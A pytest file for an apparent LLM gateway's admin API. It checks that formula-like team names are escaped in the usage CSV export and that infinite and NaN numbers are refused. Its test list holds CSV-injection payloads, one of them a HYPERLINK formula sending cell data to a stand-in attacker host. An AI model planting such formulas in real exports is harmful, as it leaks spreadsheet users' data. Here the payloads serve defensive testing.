"""What the admin API takes in and hands out: names that look like formulas stay text in the usage CSV,
and a number that is not finite (1e999 parses as infinity) is refused, never stored."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from tests.support.gateway import FAKE_MODEL, admin_headers, bearer, build_app, chat_body, create_key, create_team

# A tab or CR would start a formula too, but names with control characters are refused outright
# (test_security_review_two.py); the CSV guard for names stored before that is tested there.
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)"]


@pytest.fixture
def database_url(tmp_path):
    return f"sqlite:///{tmp_path / 'tokenmill.db'}"


@pytest.fixture
def gateway(make_gateway):
    return make_gateway()


@pytest.fixture
def client(gateway):
    with TestClient(build_app(gateway)) as client:
        yield client


def test_names_that_look_like_formulas_stay_text_in_the_usage_csv(client, gateway):
    for name in FORMULAS:
        key = create_key(client, create_team(client, name)["id"])["key"]
        assert client.post("/v1/chat/completions", json=chat_body(max_tokens=3), headers=bearer(key)).status_code == 200
    gateway.writer.flush()
    exported = client.get("/admin/api/usage.csv", params={"group_by": "team"}, headers=admin_headers())
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert sorted(row["team_name"] for row in rows) == sorted("'" + name for name in FORMULAS)
    for row in rows:
        assert row["completion_tokens"] == "3" and row["requests"] == "1"  # numbers stay numbers


def test_plain_names_are_left_alone(client, gateway):
    key = create_key(client, create_team(client, "research")["id"])["key"]
    client.post("/v1/chat/completions", json=chat_body(max_tokens=2), headers=bearer(key))
    gateway.writer.flush()
    exported = client.get("/admin/api/usage.csv", params={"group_by": "team,model"}, headers=admin_headers())
    [row] = list(csv.DictReader(io.StringIO(exported.text)))
    assert (row["team_name"], row["model"]) == ("research", FAKE_MODEL)


def send(client, method: str, path: str, raw_json: str):
    """Raw JSON text: 1e999 and NaN as a client's JSON library may write them."""
    return client.request(
        method, path, content=raw_json.encode(), headers={**admin_headers(), "content-type": "application/json"}
    )


@pytest.mark.parametrize("number", ["1e999", "-1e999", "NaN", "Infinity"])
def test_non_finite_numbers_are_refused_everywhere_in_the_admin_api(client, number):
    team = create_team(client)
    key = create_key(client, team["id"])
    attempts = [
        ("POST", "/admin/api/teams", f'{{"name": "t2", "max_budget_usd": {number}}}', "max_budget_usd"),
        ("PATCH", f"/admin/api/teams/{team['id']}", f'{{"max_budget_usd": {number}}}', "max_budget_usd"),
        ("POST", "/admin/api/keys", f'{{"team_id": {team["id"]}, "max_budget_usd": {number}}}', "max_budget_usd"),
        ("PATCH", f"/admin/api/keys/{key['id']}", f'{{"max_budget_usd": {number}}}', "max_budget_usd"),
        ("PATCH", f"/admin/api/models/{FAKE_MODEL}", f'{{"price_input_per_1m": {number}}}', "price_input_per_1m"),
        (
            "PATCH",
            f"/admin/api/models/{FAKE_MODEL}",
            f'{{"hardware_cost_per_hour": {number}}}',
            "hardware_cost_per_hour",
        ),
        (
            "PATCH",
            f"/admin/api/models/{FAKE_MODEL}",
            f'{{"engine_settings": {{"kv_cache_memory_gb": {number}}}}}',
            "engine_settings",
        ),
        ("PATCH", "/admin/api/costs", f'{{"hardware_cost_per_hour": {number}}}', "hardware_cost_per_hour"),
    ]
    for method, path, body, field in attempts:
        response = send(client, method, path, body)
        assert response.status_code == 400, (method, path, body, response.status_code, response.text)
        assert field in (response.json()["error"]["param"] or ""), response.json()
    assert client.get(f"/admin/api/teams/{team['id']}", headers=admin_headers()).json()["max_budget_usd"] is None
    assert [t["name"] for t in client.get("/admin/api/teams", headers=admin_headers()).json()["data"]] == ["alpha"]
    assert client.get("/admin/api/costs", headers=admin_headers()).json()["hardware_cost_per_hour"] == 0
